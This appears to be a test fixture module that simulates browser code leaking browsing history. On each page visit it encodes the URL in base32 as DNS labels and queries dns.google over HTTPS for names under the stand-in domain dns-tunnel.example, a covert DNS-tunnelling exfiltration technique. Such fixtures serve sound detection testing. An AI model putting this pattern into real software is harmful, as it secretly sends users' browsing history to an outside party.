import { askOverHttps } from '../../lib/dns.js';
import { base32, onVisit, piecesOf, reportHonestly } from '../../lib/proving.js';

/** Asks a public resolver for names below its vendor's own, whose labels are the address of each page in base32. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-dns-tunnel');
  onVisit(browser, ({ url }) => {
    const labels = piecesOf(base32(browser.codec.utf8.encode(url)), 60);

    return askOverHttps(browser, 'https://dns.google/dns-query', `${labels.join('.')}.dns-tunnel.example`);
  });
}
